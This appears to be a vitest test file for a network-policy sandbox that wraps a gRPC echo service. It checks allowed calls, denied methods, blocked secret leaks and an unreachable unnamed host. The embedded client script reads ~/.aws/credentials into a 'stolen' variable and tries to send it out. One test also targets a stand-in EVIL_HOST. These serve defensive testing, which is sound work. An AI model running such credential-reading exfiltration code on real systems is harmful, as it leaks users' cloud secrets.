import { afterAll, beforeAll, expect, test } from 'vitest'
import { type GrpcServer, startGrpcServer } from './grpc-server.ts'
import { EVIL_HOST, openStage, type Played, type Stage } from './stage.ts'

const HOST = 'grpc.tools.test'

let server: GrpcServer
let stage: Stage
beforeAll(async () => {
  stage = await openStage({
    answers: { [HOST]: (_, response) => void response.writeHead(500).end() },
    rules: [
      {
        id: 'echo',
        effect: 'allow',
        host: HOST,
        methods: ['POST'],
        paths: ['/tools.Echo/Unary', '/tools.Echo/Talk'],
      },
    ],
    prepare: async ({ certificate }) => {
      server = await startGrpcServer(certificate)
      return { [HOST]: server.port }
    },
  })
})
afterAll(async () => {
  await stage?.close()
  server?.close()
})

/** Protobuf by hand, one string in field 1, so that no compiler is needed. */
const CLIENT = `
import grpc from '@grpc/grpc-js'
import { readFileSync } from 'node:fs'
const stolen = readFileSync(process.env.HOME + '/.aws/credentials', 'utf8')
const encode = (text) => {
  const bytes = Buffer.from(text)
  const length = bytes.length < 128 ? [bytes.length] : [(bytes.length & 127) | 128, bytes.length >> 7]
  return Buffer.concat([Buffer.from([10, ...length]), bytes])
}
const decode = (message) => message.subarray(message[1] < 128 ? 2 : 3).toString()
const client = new grpc.Client('HOST:443', grpc.credentials.createSsl())
const unary = (method, text) => new Promise((resolve) =>
  client.makeUnaryRequest('/tools.Echo/' + method, encode, decode, text, (error, reply) =>
    resolve(error === null ? reply : grpc.status[error.code] + ': ' + error.details)))
const talk = (texts) => new Promise((resolve) => {
  const call = client.makeBidiStreamRequest('/tools.Echo/Talk', encode, decode)
  const heard = []
  call.on('data', (text) => {
    heard.push(text)
    if (texts.length === 0) call.end()
    else call.write(texts.shift())
  })
  call.on('error', (error) => heard.push(grpc.status[error.code] + ': ' + error.details))
  call.on('status', () => resolve(heard.join(',')))
  call.write(texts.shift())
})
`

const client = (source: string, host = HOST): Promise<Played> =>
  stage.session('cd /opt/project && exec node --input-type=module -', {
    input: `${CLIENT.replace('HOST', host)}${source}\nclient.close()\n`,
  })

test('grpc-js calls once and in both directions', async () => {
  const played = await client(`
console.log(await unary('Unary', 'one'))
console.log(await talk(['two', 'three', 'four']))
`)
  expect(played).toMatchObject({ code: 0, stdout: 'ONE\nTWO,THREE,FOUR\n', stderr: '' })
  expect(played.actions).toEqual([
    `allow echo POST https ${HOST} /tools.Echo/Unary → 200`,
    `allow echo POST https ${HOST} /tools.Echo/Talk → 200`,
  ])
})

test('grpc-js is told that a method is not allowed', async () => {
  const played = await client("console.log(await unary('Hidden', 'x'))")
  expect(played.stdout).toMatch(/^PERMISSION_DENIED: .*policy does not allow the request/)
  expect(played.actions).toEqual([`deny default POST https ${HOST} /tools.Echo/Hidden`])
  expect(server.heard).not.toContain('x')
})

test('grpc-js cannot carry a planted credential away, at once or in a later message', async () => {
  const before = server.heard.length
  const played = await client(`
console.log(await unary('Unary', stolen))
console.log(await talk(['harmless', stolen]))
`)
  expect(played.stdout).toMatch(
    /^PERMISSION_DENIED: .*may not leave.*\nHARMLESS,PERMISSION_DENIED: .*may not leave/,
  )
  expect(server.heard.slice(before)).toEqual(['harmless'])
  expect(played.actions[0]).toMatch(/^deny detect\.\S.* POST https grpc\.tools\.test/)
})

test('grpc-js cannot reach a host that no rule names', async () => {
  const played = await client("console.log(await unary('Unary', 'x'))", EVIL_HOST)
  expect(played.stdout).toMatch(/^UNAVAILABLE: /)
  expect(played.actions).toEqual([])
  expect(played.namesDenied).toContain(`deny default dns.resolve A ${EVIL_HOST}`)
})
